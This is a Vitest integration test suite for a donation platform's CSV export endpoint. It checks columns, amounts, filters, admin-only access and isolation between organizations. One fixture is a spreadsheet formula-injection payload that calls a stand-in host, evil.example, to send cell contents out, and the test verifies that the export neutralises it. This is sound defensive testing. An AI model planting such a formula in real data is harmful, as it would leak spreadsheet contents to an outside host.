import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { endUser, type Identity, staffMember, steppedUpStaff } from './support/auth-service.js';
import {
  donate,
  type DonationView,
  manualGift,
  openCampaign,
  refundDonation,
} from './support/donations.js';
import { eventually } from './support/eventually.js';
import { type RunningApp, startApp } from './support/running-app.js';
import { bearer, createOrganization, type TestOrganization } from './support/tenants.js';
import { TEST_DATABASE, withSuperuser } from './support/test-env.js';
import { postEvent, signedEvent } from './support/wompi.js';

/** Parses what the exports write (RFC 4180: quoted cells, doubled quotes). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i]!;
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') {
      row.push(cell);
      cell = '';
    } else if (char === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else cell += char;
  }
  return rows;
}

function records(text: string): Record<string, string>[] {
  const [header, ...rows] = parseCsv(text);
  return rows.map((row) => Object.fromEntries(header!.map((name, i) => [name, row[i]!])));
}

const COLUMNS = [
  'receipt_number',
  'succeeded_at',
  'created_at',
  'status',
  'frequency',
  'campaign_id',
  'campaign_title',
  'donor_name',
  'donor_email',
  'donor_tax_id',
  'guest',
  'currency',
  'amount_minor',
  'fee_minor',
  'total_minor',
  'refunded_minor',
  'anonymous',
  'tribute_kind',
  'tribute_name',
  'message',
  'payment_provider',
  'payment_reference',
  'donation_id',
];

const ISO = /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/;

describe('donation exports', () => {
  let app: RunningApp;
  let organization: TestOrganization;
  let other: TestOrganization;
  let admin: Identity;
  let moderator: Identity;
  let volunteer: Identity;
  let otherAdmin: Identity;
  let donor: Identity;
  let campaign: { id: string; title: string };
  let second: { id: string; title: string };
  let otherCampaign: { id: string; title: string };
  let anonymous: DonationView;
  let covered: DonationView;
  let partly: DonationView;
  let pending: DonationView;
  let elsewhere: DonationView;
  let adminsOwnGift: DonationView;
  const formula = `=HYPERLINK("https://evil.example/?d="&A1,"Click")`;

  beforeAll(async () => {
    app = await startApp();
    [organization, other] = await Promise.all([
      createOrganization('donation-exports'),
      createOrganization('donation-exports-other'),
    ]);
    [admin, moderator, volunteer, otherAdmin, donor] = await Promise.all([
      steppedUpStaff(organization.id),
      staffMember(organization.id, 'moderator'),
      staffMember(organization.id, 'user'),
      steppedUpStaff(other.id),
      endUser('export-donor'),
    ]);
    [campaign, second, otherCampaign] = await Promise.all([
      openCampaign(app, moderator, { title: '@Techo para la capilla' }),
      openCampaign(app, moderator, { title: 'Comedor' }),
      openCampaign(app, otherAdmin, { title: 'Otra organización' }),
    ]);

    anonymous = await manualGift(app, donor, admin, campaign.id, 5_000_000, {
      anonymous: true,
      message: formula,
      tribute: { kind: 'IN_MEMORY', name: '+Abuela Rosa' },
      donorTaxId: '1.020.304.050',
    });

    // Through Wompi, the donor covering the fee; the provider approves it.
    const given = await donate(app, donor, {
      campaignId: campaign.id,
      amount: { amount: 2_000_000, currency: 'COP' },
      coverFees: true,
    });
    expect(given.errors).toBeUndefined();
    expect(given.data!.donate.fee.amount).toBeGreaterThan(0);
    const reference = given.data!.donate.payment!.reference;
    const approved = signedEvent({
      status: 'APPROVED',
      amount_in_cents: given.data!.donate.total.amount,
      reference,
    });
    expect(await postEvent(app, approved)).toBe(200);
    covered = given.data!.donate;
    await eventually(
      () =>
        withSuperuser(TEST_DATABASE, (db) =>
          db.query<{ status: string }>('SELECT status FROM donations WHERE id = $1', [covered.id]),
        ).then(({ rows }) => rows[0]?.status),
      (status) => status === 'SUCCEEDED',
    );

    partly = await manualGift(app, donor, admin, second.id, 4_000_000);
    expect(
      (await refundDonation(app, admin, { id: partly.id, amount: 1_500_000, reason: 'monto' }))
        .errors,
    ).toBeUndefined();
    const waiting = await donate(app, donor, {
      campaignId: second.id,
      amount: { amount: 1_000_000, currency: 'COP' },
      paymentProvider: 'MANUAL',
    });
    expect(waiting.errors).toBeUndefined();
    pending = waiting.data!.donate;

    // The other organization's gifts: a donor's, and one this organization's admin gave there.
    elsewhere = await manualGift(app, donor, otherAdmin, otherCampaign.id, 7_000_000);
    adminsOwnGift = await manualGift(app, admin, otherAdmin, otherCampaign.id, 8_000_000);
  }, 120_000);
  afterAll(() => app.close());

  const download = (identity: Identity | null, query = '') =>
    fetch(`${app.url}/api/exports/donations.csv${query}`, {
      headers: identity ? bearer(identity.accessToken) : {},
    });

  const rowsFor = async (identity: Identity, query = '') => {
    const response = await download(identity, query);
    expect(response.status).toBe(200);
    return records(await response.text());
  };

  describe('happy', () => {
    it('lists every gift of the organization with exact amounts in minor units and who gave, anonymous or not', async () => {
      const response = await download(admin);
      expect(response.status).toBe(200);
      expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
      expect(response.headers.get('content-disposition')).toBe(
        'attachment; filename="donations.csv"',
      );
      expect(response.headers.get('cache-control')).toBe('no-store');
      const text = await response.text();
      expect(parseCsv(text)[0]).toEqual(COLUMNS);
      const rows = records(text);
      expect(rows.map((row) => row.donation_id)).toEqual([
        anonymous.id,
        covered.id,
        partly.id,
        pending.id,
      ]);
      const [first, wompi, refunded, waiting] = rows as [
        Record<string, string>,
        Record<string, string>,
        Record<string, string>,
        Record<string, string>,
      ];

      expect(first).toMatchObject({
        receipt_number: String(anonymous.receiptNumber),
        status: 'SUCCEEDED',
        frequency: 'ONE_TIME',
        campaign_id: campaign.id,
        // Text typed by editors and donors cannot become a formula.
        campaign_title: "'@Techo para la capilla",
        donor_name: donor.name,
        donor_email: donor.email,
        donor_tax_id: '1.020.304.050',
        guest: 'f',
        currency: 'COP',
        amount_minor: '5000000',
        fee_minor: '0',
        total_minor: '5000000',
        refunded_minor: '0',
        anonymous: 't',
        tribute_kind: 'IN_MEMORY',
        tribute_name: "'+Abuela Rosa",
        message: `'${formula}`,
        payment_provider: 'MANUAL',
      });
      expect(first.succeeded_at).toMatch(ISO);
      expect(first.created_at).toMatch(ISO);
      expect(first.payment_reference).not.toBe('');

      expect(wompi).toMatchObject({
        status: 'SUCCEEDED',
        amount_minor: '2000000',
        fee_minor: String(covered.fee.amount),
        total_minor: String(covered.total.amount),
        refunded_minor: '0',
        anonymous: 'f',
        tribute_kind: '',
        message: '',
        payment_provider: 'WOMPI',
        payment_reference: covered.payment!.reference,
      });
      expect(Number(wompi.receipt_number)).toBeGreaterThan(0);

      expect(refunded).toMatchObject({
        status: 'PARTIALLY_REFUNDED',
        campaign_title: 'Comedor',
        amount_minor: '4000000',
        total_minor: '4000000',
        refunded_minor: '1500000',
      });
      expect(waiting).toMatchObject({
        status: 'PENDING',
        receipt_number: '',
        succeeded_at: '',
        amount_minor: '1000000',
      });
    });

    it('filters by campaign and by status', async () => {
      expect(
        (await rowsFor(admin, `?campaignId=${second.id}`)).map((row) => row.donation_id),
      ).toEqual([partly.id, pending.id]);
      expect((await rowsFor(admin, '?status=SUCCEEDED')).map((row) => row.donation_id)).toEqual([
        anonymous.id,
        covered.id,
      ]);
      expect(
        (await rowsFor(admin, `?campaignId=${second.id}&status=PENDING`)).map(
          (row) => row.donation_id,
        ),
      ).toEqual([pending.id]);
      expect(await rowsFor(admin, `?campaignId=${campaign.id}&status=REFUNDED`)).toEqual([]);
      const named = await download(admin, `?campaignId=${second.id}`);
      expect(named.headers.get('content-disposition')).toBe(
        `attachment; filename="campaign-${second.id}-donations.csv"`,
      );
      await named.body?.cancel();
    });
  });

  describe('error', () => {
    it('refuses malformed filters with the fields at fault', async () => {
      for (const [query, field] of [
        ['?campaignId=not-a-uuid', 'campaignId'],
        ['?status=PAID', 'status'],
        ['?status=succeeded', 'status'],
        [`?status=SUCCEEDED&status=PENDING`, 'status'],
      ] as const) {
        const response = await download(admin, query);
        expect(response.status, query).toBe(400);
        const body = (await response.json()) as { code: string; errors?: Record<string, string[]> };
        expect(body.code).toBe('VALIDATION_FAILED');
        expect(Object.keys(body.errors ?? {})).toEqual([field]);
      }
    });

    it("is 404 for a campaign that is not the organization's", async () => {
      for (const id of [otherCampaign.id, randomUUID()]) {
        const response = await download(admin, `?campaignId=${id}`);
        expect(response.status).toBe(404);
        const body = await response.text();
        expect(JSON.parse(body)).toMatchObject({ code: 'NOT_FOUND' });
        expect(body).not.toContain(donor.email);
      }
    });
  });

  describe('security', () => {
    it('is for admins only', async () => {
      expect((await download(null)).status).toBe(401);
      for (const staff of [moderator, volunteer, donor]) {
        const refused = await download(staff);
        expect(refused.status).toBe(403);
        expect(((await refused.json()) as { code: string }).code).toBe('FORBIDDEN');
      }
    });

    it("shows each organization's admins their own gifts only, never the ones their own account gave elsewhere", async () => {
      const mine = await rowsFor(admin);
      expect(mine.map((row) => row.donation_id)).not.toContain(elsewhere.id);
      expect(mine.map((row) => row.donation_id)).not.toContain(adminsOwnGift.id);

      const theirs = await download(otherAdmin);
      expect(theirs.status).toBe(200);
      const text = await theirs.text();
      expect(records(text).map((row) => row.donation_id)).toEqual([elsewhere.id, adminsOwnGift.id]);
      for (const foreign of [anonymous.id, covered.id, partly.id, pending.id, campaign.title]) {
        expect(text).not.toContain(foreign);
      }
    });
  });
});
